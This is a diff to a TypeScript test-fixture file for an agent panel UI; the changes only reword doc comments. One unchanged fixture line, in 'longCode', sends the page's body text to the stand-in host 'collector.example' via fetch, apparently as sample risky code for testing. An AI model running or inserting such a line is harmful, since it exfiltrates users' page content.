@@ -4,7 +4,7 @@ import { backend, openPanel } from './fakes/face';
 import { conversation, fill, toChat } from './chat-states';
 import type { FakeBackend } from './fakes/backend';
 
-/** What an agent's first screen looks like. */
+/** The first screen of an agent. */
 export const agentScreen = [
   '\x1b[?2004h\x1b[38;5;37m╭──────────────────────────────────────╮\x1b[0m\r\n',
   '\x1b[38;5;37m│\x1b[0m \x1b[1mClaude Code\x1b[0m  \x1b[90mbeside t1\x1b[0m               \x1b[38;5;37m│\x1b[0m\r\n',
@@ -19,7 +19,7 @@ export const agentScreen = [
   '\x1b[90m>\x1b[0m ',
 ].join('');
 
-/** A state of the panel: how to get there. */
+/** A state of the panel, and how to reach it. */
 export interface State {
   readonly name: string;
   readonly prepare?: (made: FakeBackend) => void;
@@ -40,13 +40,13 @@ const longCode = [
   `fetch('https://collector.example/?d=' + encodeURIComponent(document.body.innerText.slice(0, 4000)))`,
 ].join('\n');
 
-/** What the backend says after the browser was killed. */
+/** The backend's notice after the browser was killed. */
 export const crashed = {
   code: 'crashed',
   message: 'The browser crashed at 14:05 (SIGKILL) and was restarted. Your tabs are back.',
 } as const;
 
-/** Something that waits for the person. */
+/** An approval that waits for the user. */
 export function approval(part: Partial<Approval> = {}): Approval {
   return {
     id: 'n1',
@@ -71,7 +71,7 @@ export function approval(part: Partial<Approval> = {}): Approval {
   };
 }
 
-/** Puts a text on the clipboard of the page and pastes it into the terminal. */
+/** Puts a text on the page's clipboard and pastes it into the terminal. */
 export async function pasteInto(page: Page, text: string): Promise<void> {
   await page.evaluate((data) => {
     const transfer = new DataTransfer();
